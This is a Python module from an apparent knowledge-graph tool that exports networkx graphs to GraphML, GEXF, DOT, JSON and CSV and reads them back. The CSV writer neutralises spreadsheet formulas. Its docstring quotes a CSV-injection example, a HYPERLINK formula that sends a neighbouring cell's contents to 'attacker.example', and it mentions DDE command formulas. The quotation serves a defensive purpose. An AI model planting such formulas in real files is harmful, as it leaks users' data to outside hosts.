"""Network files for the tools analysts already use, and reading them back.

Why: people look at networks in Gephi (GEXF, GraphML, CSV), Cytoscape (GraphML), D3
(node-link JSON) and Graphviz (DOT); `kg network export` writes each of them from the same
graph, and `read_network` reads every one back into the graph that was written, which the
tests check format by format.

GraphML, GEXF, DOT and CSV cannot hold lists: the list attributes (registers,
specifications, collaborations, relations) are written as one string of space-separated
values (IRIs cannot contain spaces). Node-link JSON keeps them as lists. CSV is two files,
`NAME.csv` (edges: source, target, type, weight, ...) and `NAME.nodes.csv` (id, label, ...),
with the column names Gephi's spreadsheet import recognises (type is Directed or Undirected).
A CSV cell a spreadsheet would take for a formula is written as text (`spreadsheet_cell`).
DOT is written here, not by pydot, because pydot splits unquoted IRIs at the colon (port syntax).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import networkx as nx

from kg.model.patterns import safe_text
from kg.network.graphs import LIST_ATTRIBUTES, LIST_SEPARATOR, NetworkError

FORMATS = {"graphml": ".graphml", "gexf": ".gexf", "json": ".json", "dot": ".dot", "csv": ".csv"}
NODES_SUFFIX = ".nodes.csv"
# What opens a formula in a spreadsheet's cell (OWASP, "CSV Injection"), and the mark that keeps a cell
# text; a cell opening with the mark itself gets one more, so that reading back takes exactly one off.
FORMULA_OPENERS = ("=", "+", "-", "@", "\t", "\r", "'")
TEXT_MARK = "'"
JSON_EDGES = "links"  # the key D3's force layout expects


def format_for(path: Path, fmt: str | None) -> str:
    """The format asked for, or the one the file name says."""
    if fmt:
        if fmt not in FORMATS:
            raise NetworkError(f"unknown export format {fmt!r} (known: {', '.join(FORMATS)})")
        return fmt
    for name, suffix in FORMATS.items():
        if path.name.endswith(suffix):
            return name
    raise NetworkError(f"{path}: cannot tell the format from the name; give one of {', '.join(FORMATS)}")


def nodes_file(path: Path) -> Path:
    """The node table beside an edge table: org.csv -> org.nodes.csv."""
    return path.with_name(path.name.removesuffix(".csv") + NODES_SUFFIX)


def flat_value(value: Any) -> Any:
    """A value every format can hold: lists joined by LIST_SEPARATOR, None as "", text safe.

    Text goes through kg.model.patterns.safe_text, as every literal ingest makes does: a store loaded
    from N-Quads (`kg store load`) or an endpoint may hold any control in a label, and a NUL or ESC
    made networkx refuse GraphML (ValueError), GEXF not well-formed XML, and DOT a file `dot` stops
    reading at the NUL (a syntax error). Node-link JSON escapes them and keeps the text as it is."""
    if value is None:
        return ""
    if isinstance(value, list | tuple | set | frozenset):
        return safe_text(LIST_SEPARATOR.join(str(item) for item in value))
    if isinstance(value, str):
        return safe_text(value)
    return value


def flattened(graph: nx.Graph) -> nx.Graph:
    """A copy of the graph whose attribute values are all scalars."""
    flat = graph.__class__()
    flat.graph.update({key: flat_value(value) for key, value in graph.graph.items()})
    flat.add_nodes_from((node, _flat(data)) for node, data in graph.nodes(data=True))
    flat.add_edges_from((a, b, _flat(data)) for a, b, data in graph.edges(data=True))
    return flat


def _flat(data: dict[str, Any]) -> dict[str, Any]:
    return {key: flat_value(value) for key, value in data.items()}


# --- Writing ---------------------------------------------------------------------------


def export_network(graph: nx.Graph, path: Path | str, fmt: str | None = None) -> list[Path]:
    """Write the graph in one format; returns the files written (two for CSV)."""
    path = Path(path)
    fmt = format_for(path, fmt)
    path.parent.mkdir(parents=True, exist_ok=True)
    if fmt == "json":
        data = nx.node_link_data(graph, edges=JSON_EDGES)
        path.write_text(json.dumps(data, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    elif fmt == "graphml":
        nx.write_graphml(flattened(graph), path, named_key_ids=True)
    elif fmt == "gexf":
        nx.write_gexf(flattened(graph), path)
    elif fmt == "dot":
        path.write_text(dot_text(flattened(graph)), encoding="utf-8")
    else:
        return write_csv(flattened(graph), path)
    return [path]


def dot_quote(value: Any) -> str:
    """A DOT double-quoted string: any text, IRIs included, is one ID."""
    text = str(value).replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'"{text}"'


def _dot_attributes(data: dict[str, Any]) -> str:
    return ", ".join(f"{key}={dot_quote(value)}" for key, value in data.items())


def dot_text(graph: nx.Graph) -> str:
    """The graph in Graphviz DOT: every ID and value quoted, attributes as written."""
    keyword, arrow = ("digraph", "->") if graph.is_directed() else ("graph", "--")
    lines = [f"strict {keyword} {dot_quote(graph.graph.get('kind', 'network'))} {{"]
    lines += [f"  {key}={dot_quote(value)};" for key, value in graph.graph.items()]
    lines += [f"  {dot_quote(node)} [{_dot_attributes(data)}];" for node, data in graph.nodes(data=True)]
    for a, b, data in graph.edges(data=True):
        lines.append(f"  {dot_quote(a)} {arrow} {dot_quote(b)} [{_dot_attributes(data)}];")
    return "\n".join([*lines, "}"]) + "\n"


def spreadsheet_cell(value: Any) -> Any:
    """A CSV cell no spreadsheet runs: text opening with `=`, `+`, `-`, `@`, a tab or a carriage return
    gets a leading `'`, which LibreOffice Calc, Excel and Google Sheets show as text.

    Why: the node table is opened in spreadsheets as well as in Gephi, and a label is whatever a store
    holds (`kg store load` of someone's N-Quads, a Graph Store write, `--endpoint`): a label
    `=HYPERLINK("http://attacker.example/?"&B2, "DMTF")` became a link that sends a neighbouring cell
    away when clicked, and `=cmd|...` formulas have run commands (DDE). Numbers are written as numbers.
    `read_csv` takes the mark off again, so the file reads back as the graph that was written."""
    if isinstance(value, str) and value.startswith(FORMULA_OPENERS):
        return TEXT_MARK + value
    return value


def _row(cells: list[Any]) -> list[Any]:
    return [spreadsheet_cell(cell) for cell in cells]


def write_csv(graph: nx.Graph, path: Path) -> list[Path]:
    """Edge table and node table, in the column names Gephi's import recognises."""
    edge_type = "Directed" if graph.is_directed() else "Undirected"
    edge_keys = _keys(data for _, _, data in graph.edges(data=True))
    node_keys = _keys(data for _, data in graph.nodes(data=True))
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["source", "target", "type", *edge_keys])
        for a, b, data in graph.edges(data=True):
            writer.writerow(_row([a, b, edge_type, *(data.get(key, "") for key in edge_keys)]))
    nodes_path = nodes_file(path)
    with nodes_path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", *node_keys])
        for node, data in graph.nodes(data=True):
            writer.writerow(_row([node, *(data.get(key, "") for key in node_keys)]))
    return [path, nodes_path]


def _keys(records: Any) -> list[str]:
    """Every attribute name that occurs, in first-seen order: the columns of a table."""
    keys: dict[str, None] = {}
    for data in records:
        keys.update(dict.fromkeys(data))
    return list(keys)


# --- Reading ---------------------------------------------------------------------------


def read_network(path: Path | str, fmt: str | None = None) -> nx.Graph:
    """Read an exported file back with networkx and restore lists and numbers: the graph that was written."""
    path = Path(path)
    fmt = format_for(path, fmt)
    if fmt == "json":
        data = json.loads(path.read_text(encoding="utf-8"))
        return restored(nx.node_link_graph(data, edges=JSON_EDGES, multigraph=False))
    if fmt == "graphml":
        return restored(nx.read_graphml(path))
    if fmt == "gexf":
        return restored(nx.read_gexf(path), drop=("id",))
    if fmt == "dot":
        return restored(_unquoted(read_dot(path)), drop=("name",))
    return restored(read_csv(path))


def read_dot(path: Path) -> nx.Graph:
    """networkx's DOT reader, which needs pydot (an optional extra): without it, a message naming the
    extra rather than a bare ModuleNotFoundError (writing DOT needs nothing: it is written here)."""
    try:
        import pydot  # noqa: F401 - only to know it is there before networkx asks for it
    except ImportError:
        raise NetworkError(
            f"{path}: reading DOT back needs pydot: pip install 'alliance-kg[network]' (or 'pydot>=3')"
        ) from None
    return nx.nx_pydot.read_dot(path)


def _cells(rows: Any) -> list[dict[str, Any]]:
    """The rows of a table `write_csv` wrote, each cell's text mark (spreadsheet_cell) taken off."""
    return [{key: _unmarked(value) for key, value in row.items()} for row in rows]


def _unmarked(value: Any) -> Any:
    return value[1:] if isinstance(value, str) and value.startswith(TEXT_MARK) else value


def read_csv(path: Path) -> nx.Graph:
    with path.open(newline="", encoding="utf-8") as stream:
        edges = _cells(csv.DictReader(stream))
    directed = any(row.get("type") == "Directed" for row in edges)
    graph = nx.DiGraph() if directed else nx.Graph()
    with nodes_file(path).open(newline="", encoding="utf-8") as stream:
        graph.add_nodes_from((row.pop("id"), row) for row in _cells(csv.DictReader(stream)))
    for row in edges:
        source, target = row.pop("source"), row.pop("target")
        row.pop("type", None)
        graph.add_edge(source, target, **row)
    return graph


def _undot(value: Any) -> str:
    """A DOT value as pydot returns it (quotes and escapes kept) back to the text that was written."""
    text = str(value)
    if len(text) >= 2 and text[0] == text[-1] == '"':
        text = text[1:-1]
    return text.replace("\\n", "\n").replace('\\"', '"').replace("\\\\", "\\")


def _unquoted(graph: nx.Graph) -> nx.Graph:
    clean = nx.DiGraph() if graph.is_directed() else nx.Graph()
    clean.graph.update({key: _undot(value) for key, value in graph.graph.get("graph", {}).items()})
    for node, data in graph.nodes(data=True):
        clean.add_node(_undot(node), **{key: _undot(value) for key, value in data.items()})
    for a, b, data in graph.edges(data=True):
        clean.add_edge(_undot(a), _undot(b), **{key: _undot(value) for key, value in data.items()})
    return clean


def _restore_value(key: str, value: Any) -> Any:
    if key in LIST_ATTRIBUTES:
        return value if isinstance(value, list) else sorted(str(value).split(LIST_SEPARATOR)) if value else []
    if key in ("weight", "bipartite") and value not in (None, ""):
        return int(float(value))
    return value


def restored(graph: nx.Graph, drop: tuple[str, ...] = ()) -> nx.Graph:
    """Lists split again, weights and sides as int; attributes a reader adds itself dropped."""
    for _, data in graph.nodes(data=True):
        _restore(data, drop)
    for _, _, data in graph.edges(data=True):
        _restore(data, drop)
    for key in ("node_default", "edge_default"):
        graph.graph.pop(key, None)
    return graph


def _restore(data: dict[str, Any], drop: tuple[str, ...]) -> None:
    for key in drop:
        data.pop(key, None)
    for key, value in list(data.items()):
        data[key] = _restore_value(key, value)
